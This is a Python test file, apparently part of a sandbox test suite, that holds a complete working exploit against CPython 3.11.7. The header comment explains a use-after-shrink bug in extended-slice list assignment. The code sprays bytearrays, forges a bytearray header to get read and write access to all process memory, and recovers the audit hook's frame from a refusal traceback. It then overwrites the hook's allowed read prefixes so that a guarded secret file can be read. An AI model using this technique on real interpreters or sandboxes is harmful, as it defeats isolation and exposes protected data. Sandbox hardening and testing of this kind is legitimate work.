# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# A list's extended-slice store (`a[start:stop:step] = value`, step not 1) works out the slice against the list's size,
# then turns the value into a list (`PySequence_Fast`: the value's `__iter__`, Python code of the code's own), then
# writes each new item at `ob_item[start + k * step]` of whatever table the list holds by then, and drops the item it
# found there: CPython 3.11.7 never looks at the size again (gh-120384, fixed in 3.12 and 3.13 only). An `__iter__`
# that shrinks the list (`del a[3:]`: a 60-slot table moves to a 64-byte block, the one a bytearray header of the
# code's own just freed) makes the store land past the new table: word 13 is the next bytearray header's data pointer,
# which then points at a third bytearray's header, whose size and data the code rewrite: size 2**62, data at address
# 0, so any address is read and written, with no audit event. From there the hook's frozen read prefixes (the frame
# of a refusal it makes unreported hands them out) gain "/", and the secret file is read where the hook is what guards
# it. With the hook the value is made a list before the slice is worked out (1); without it native code is assumed.
import os

HELD = []  # everything the forged headers name, kept for good


def window():
    """A bytearray over all memory, made by a list's extended-slice store past its shrunk table."""
    over = bytearray(b"c" * 100)
    spray = [bytearray(1000) for _ in range(600)]  # headers of 56 bytes side by side in 64-byte blocks
    HELD.append((over, spray))
    at = None
    for k in range(300, 590):
        here, there = id(spray[k]), id(spray[k + 1])
        if there == here + 64 and here // 4096 == there // 4096:
            at = k
            break
    if at is None:
        return None
    victim = spray[at + 1]
    table = [0] * 60  # 480 bytes of the interpreter's allocator, moved to a 64-byte block when it shrinks to 3
    HELD.append(table)
    cut = slice(3, None)
    items = iter([over])

    class Shrinking:
        def __iter__(self):
            spray[at] = None  # its header's block is the next 64-byte block handed out: the shrunk table's
            del table[cut]
            return items

    try:
        table[13:14:2] = Shrinking()  # word 13 past the table's start: the victim's data pointer, set to `over`
    except Exception:
        return None
    head = bytes(victim[:56])
    if int.from_bytes(head[8:16], "little") != id(bytearray):
        return None
    victim[16:24] = (2**62).to_bytes(8, "little")  # over's size
    victim[24:32] = (2**62).to_bytes(8, "little")  # its allocation
    victim[40:48] = bytes(8)  # its data: address 0
    return over


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    if frame is None:  # no hook here: native code is assumed anyway
        return 1
    memory = window()
    if memory is None:
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    at = id(prefixes) + 24  # the tuple's first item
    memory[at:at + 8] = id(root).to_bytes(8, "little")
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a list's extended-slice store past its shrunk table: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a list's extended-slice store"
